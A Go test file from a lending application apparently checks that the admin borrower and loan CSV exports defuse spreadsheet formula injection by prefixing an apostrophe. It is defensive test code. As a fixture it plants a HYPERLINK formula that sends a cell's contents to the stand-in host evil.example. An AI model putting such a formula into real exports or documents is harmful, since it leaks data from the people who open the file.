package api

import (
	"context"
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/pautang/pautang/internal/admin"
	"github.com/pautang/pautang/internal/store"
	"github.com/pautang/pautang/internal/store/storetest"
)

// TestAdminExportsKeepFormulasAsText: a borrower who names themself like a spreadsheet formula
// reaches the exports as text (a leading apostrophe), never as a formula finance would run.
func TestAdminExportsKeepFormulasAsText(t *testing.T) {
	storetest.Each(t, func(t *testing.T, d store.Dialect) {
		h := newAdminHarness(t, d)
		const evil = `=HYPERLINK("http://evil.example/?d="&A1,"Refund")`
		if _, err := h.st.DB.ExecContext(context.Background(), `UPDATE users SET name = '`+strings.ReplaceAll(evil, "'", "''")+`' WHERE id = (SELECT MIN(user_id) FROM orders)`); err != nil {
			t.Fatal(err)
		}
		op := h.as(admin.RoleAdmin)
		for _, path := range []string{"/admin/api/borrowers.csv", "/admin/api/loans.csv"} {
			rec := rawGet(h, op, withReason(path))
			rows, err := csv.NewReader(rec.Body).ReadAll()
			if rec.Code != 200 || err != nil {
				t.Fatalf("%s: %d %v", path, rec.Code, err)
			}
			found := false
			for _, row := range rows[1:] {
				if slices.Contains(row, evil) {
					t.Fatalf("%s: the formula is in the file as is: %q", path, row)
				}
				found = found || slices.Contains(row, "'"+evil)
			}
			if !found {
				t.Fatalf("%s: the borrower's name is not in the file as text", path)
			}
		}
	})
}
